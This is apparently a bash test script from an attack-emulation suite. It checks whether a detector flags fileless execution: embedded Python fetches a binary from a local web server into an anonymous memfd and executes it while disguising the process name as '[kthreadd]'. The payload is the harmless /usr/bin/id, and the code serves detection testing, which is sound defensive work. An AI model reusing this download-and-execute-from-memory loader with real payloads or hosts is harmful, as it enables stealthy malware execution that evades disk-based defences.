#!/bin/bash
# vigil-emulation: attack
# technique: T1620 Reflective Code Loading; T1105 Ingress Tool Transfer
# tactic: defense-evasion, execution
# what: fileless execution: Python downloads an ELF from a web server the scenario runs on
#   127.0.0.1 into an anonymous memfd (memfd_create) and executes it from
#   /proc/self/fd/N with execve, so no file ever exists on disk (the ELF is /usr/bin/id).
# report: a program executed from a memfd (an anonymous in-memory file).
# expect: memfd|fileless|memory
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"

emul_tmpdir
cp /usr/bin/id "$EMUL_DIR/p"
emul_server http --dir "$EMUL_DIR"
"$PY" - "$EMUL_PORT" <<'PY'
import os, sys, urllib.request
data = urllib.request.urlopen(f"http://127.0.0.1:{sys.argv[1]}/p").read()
fd = os.memfd_create("", 0)
os.write(fd, data)
os.execve(f"/proc/self/fd/{fd}", ["[kthreadd]"], dict(os.environ))
PY
